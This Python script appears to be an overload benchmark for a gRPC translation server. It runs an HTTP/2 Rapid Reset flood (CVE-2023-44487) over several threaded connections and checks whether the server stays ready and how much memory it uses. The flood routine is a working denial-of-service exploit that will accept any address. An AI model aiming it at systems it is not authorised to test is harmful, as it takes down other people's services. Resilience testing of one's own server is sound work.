"""Opens streams and takes them back at once, as floods do (CVE-2023-44487), on many connections.

    python benches/overload/rapid_reset.py 127.0.0.1:50051 127.0.0.1:9464 --connections 8 --seconds 10

Needs the package `h2`. Tells how many streams were opened, how many connections the server ended, and
whether `/readyz` answered all the while; with `--pid`, also the server's resident memory before and
after. The exit code is 1 when the server was not ready once.
"""

import argparse
import collections
import socket
import threading
import time
import urllib.request

import h2.config
import h2.connection
import h2.errors
import h2.exceptions

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/depeche.v1.TranslationService/Translate"),
    (":authority", "flood.test"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]
STREAMS_A_WRITE = 50


def connect(address):
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=5)
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    protocol = h2.connection.H2Connection(config)
    protocol.initiate_connection()
    connection.sendall(protocol.data_to_send())
    return connection, protocol


def flood(address, until, counts):
    while time.monotonic() < until:
        try:
            connection, protocol = connect(address)
            counts["connections"] += 1
            connection.settimeout(0)
            while time.monotonic() < until:
                for _ in range(STREAMS_A_WRITE):
                    stream = protocol.get_next_available_stream_id()
                    protocol.send_headers(stream, HEADERS)
                    protocol.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                counts["streams"] += STREAMS_A_WRITE
                connection.settimeout(5)
                connection.sendall(protocol.data_to_send())
                connection.settimeout(0)
                try:
                    received = connection.recv(1 << 16)
                    if not received:
                        raise ConnectionError("closed")
                    protocol.receive_data(received)
                except BlockingIOError:
                    pass
        except (OSError, h2.exceptions.ProtocolError):
            counts["ended by the server"] += 1
        finally:
            connection.close()


def ready(admin):
    try:
        with urllib.request.urlopen(f"http://{admin}/readyz", timeout=2) as answer:
            return answer.status == 200
    except OSError:
        return False


def resident(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(line.split()[1] for line in status if line.startswith("VmRSS"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("server")
    parser.add_argument("admin")
    parser.add_argument("--connections", type=int, default=8)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--pid", type=int)
    flags = parser.parse_args()
    if flags.pid:
        print(f"resident before: {resident(flags.pid)} kB")
    counts = collections.Counter()
    until = time.monotonic() + flags.seconds
    threads = [
        threading.Thread(target=flood, args=(flags.server, until, counts))
        for _ in range(flags.connections)
    ]
    for thread in threads:
        thread.start()
    probes = []
    while time.monotonic() < until:
        probes.append(ready(flags.admin))
        time.sleep(0.1)
    for thread in threads:
        thread.join()
    for name, count in counts.items():
        print(f"{name}: {count}")
    print(f"ready: {sum(probes)} of {len(probes)} probes")
    if flags.pid:
        print(f"resident after: {resident(flags.pid)} kB")
    raise SystemExit(0 if all(probes) else 1)


if __name__ == "__main__":
    main()
